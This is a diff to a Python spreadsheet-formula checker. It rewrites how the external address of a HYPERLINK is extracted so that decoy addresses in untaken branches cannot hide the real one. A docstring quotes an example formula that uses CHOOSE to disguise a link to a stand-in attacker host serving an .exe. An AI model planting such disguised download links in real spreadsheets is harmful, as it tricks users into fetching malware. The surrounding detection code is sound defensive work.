@@ -339,26 +339,45 @@ def reach(formula: str, outward: Outward | None = None) -> str | None:
     return named if named is not None and named != LINK else kind or named
 
 
-_BEFORE_ADDRESS = re.compile(r"\bHYPERLINK\s*\(\s*\Z", re.IGNORECASE)
-"""What stands before a HYPERLINK's address written as one text (its first argument)."""
-_AFTER_ADDRESS = re.compile(r"\s*[,)]")
+_WHOLE_LINK = re.compile(
+    r'\s*=?\s*(?:_xlfn\.)?HYPERLINK\s*(\()\s*"((?:[^"]|"")*)"\s*[,)]', re.IGNORECASE
+)
+"""A formula that opens with a HYPERLINK whose address is written as one text."""
+_BRACKETS = re.compile(r'"(?:[^"]|"")*"|\'(?:[^\']|\'\')*\'|[()]')
+"""What counts when matching brackets: a text or a quoted sheet name (either may hold a
+bracket), and the brackets themselves."""
 
 
 def link_address(formula: str) -> str | None:
-    """Where a HYPERLINK in ``formula`` goes outside the workbook, when its address is written
-    as one text (``HYPERLINK("http://…","说明")``: ``http://…``); None when it is computed
-    (``HYPERLINK(A1)``, ``HYPERLINK("http://"&A1)``, a defined name).  Addresses starting
-    with ``#`` stay in the workbook and are passed over, as :data:`OUTSIDE` passes them.  The
-    formula's texts are taken once, left to right (a pattern tried at every ``HYPERLINK(``
-    would read the rest of the formula from each: quadratic in a long hostile one), and each
-    is an address when the few characters before it open a HYPERLINK."""
-    for text in _TEXT.finditer(formula):
-        before = formula[max(0, text.start() - 32) : text.start()]
-        if _BEFORE_ADDRESS.search(before) and _AFTER_ADDRESS.match(formula, text.end()):
-            address = text.group(0)[1:-1].replace('""', '"')
-            if not address.startswith("#"):
-                return address
-    return None
+    """Where ``formula`` links outside the workbook, when it is one HYPERLINK whose address is
+    written as one text (``HYPERLINK("http://…","说明")``: ``http://…``); None otherwise, and
+    the message then shows the formula.  Only the whole formula: a review hid the address
+    that counts behind another one in a branch never taken (``CHOOSE(2,HYPERLINK("https://
+    www.mof.gov.cn/"),HYPERLINK("http://evil.example/x.exe"))`` named the ministry), so an
+    address is named only when nothing else in the formula can choose another.  ``#`` stays
+    in the workbook (None, as :data:`OUTSIDE` passes it over).  Linear: one pass over the
+    formula's texts and brackets."""
+    opened = _WHOLE_LINK.match(formula)
+    if opened is None:
+        return None
+    address = opened.group(2).replace('""', '"')
+    if address.startswith("#") or not _closes_at_end(formula, opened.start(1)):
+        return None
+    return address
+
+
+def _closes_at_end(formula: str, opening: int) -> bool:
+    """Whether the bracket at ``opening`` closes at the formula's end (only blanks after)."""
+    depth = 0
+    for token in _BRACKETS.finditer(formula, opening):
+        bracket = token.group(0)
+        if bracket == "(":
+            depth += 1
+        elif bracket == ")":
+            depth -= 1
+            if depth == 0:
+                return not formula[token.end() :].strip()
+    return False
 
 
 _TEXT = re.compile(r'"(?:[^"]|"")*"')
